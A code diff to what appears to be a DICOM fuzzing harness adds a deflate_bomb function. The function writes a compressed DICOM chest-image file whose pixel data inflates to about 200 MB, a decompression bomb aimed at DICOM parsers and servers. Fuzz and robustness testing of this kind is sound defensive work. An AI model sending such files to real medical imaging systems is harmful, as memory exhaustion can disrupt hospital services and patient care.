@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import random
 import struct
+import zlib
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from pathlib import Path
@@ -186,3 +187,42 @@ def send_raw(host: str, port: int, case: FuzzCase, called_aet: str = "RADREPORT"
         return int(status.Status) if "Status" in status else None
     finally:
         _config.STORE_SEND_CHUNKED_DATASET = chunked
+
+
+def deflate_bomb(path: Path, inflated_bytes: int = 200_000_000) -> Path:
+    """A Deflated Explicit VR Little Endian instance whose zero pixel data inflates to
+    ``inflated_bytes`` (about 1,000 times its size on disk), built in 1 MiB chunks."""
+    from pydicom.dataset import Dataset, FileMetaDataset
+    from pydicom.filebase import DicomBytesIO
+    from pydicom.filewriter import write_dataset, write_file_meta_info
+    from pydicom.uid import generate_uid
+
+    ds = Dataset()
+    ds.SOPClassUID, ds.SOPInstanceUID = "1.2.840.10008.5.1.4.1.1.1", generate_uid()
+    ds.StudyInstanceUID, ds.SeriesInstanceUID = generate_uid(), generate_uid()
+    ds.Modality, ds.BodyPartExamined = "CR", "CHEST"
+    side = int((inflated_bytes // 2) ** 0.5)
+    ds.Rows = ds.Columns = side
+    ds.SamplesPerPixel, ds.PhotometricInterpretation = 1, "MONOCHROME2"
+    ds.BitsAllocated = ds.BitsStored = 16
+    ds.HighBit, ds.PixelRepresentation = 15, 0
+    header = DicomBytesIO()
+    header.is_little_endian, header.is_implicit_VR = True, False
+    write_dataset(header, ds)
+    pixels = side * side * 2
+    deflater = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
+    chunks = [deflater.compress(header.getvalue() + b"\xe0\x7f\x10\x00OW\0\0"
+                                + struct.pack("<I", pixels))]
+    zeros = bytes(1 << 20)
+    for start in range(0, pixels, len(zeros)):
+        chunks.append(deflater.compress(zeros[:min(len(zeros), pixels - start)]))
+    chunks.append(deflater.flush())
+    meta = FileMetaDataset()
+    meta.MediaStorageSOPClassUID, meta.MediaStorageSOPInstanceUID = (ds.SOPClassUID,
+                                                                     ds.SOPInstanceUID)
+    meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
+    with path.open("wb") as out:
+        out.write(b"\0" * 128 + b"DICM")
+        write_file_meta_info(out, meta, enforce_standard=True)  # type: ignore[arg-type]
+        out.write(b"".join(chunks))
+    return path
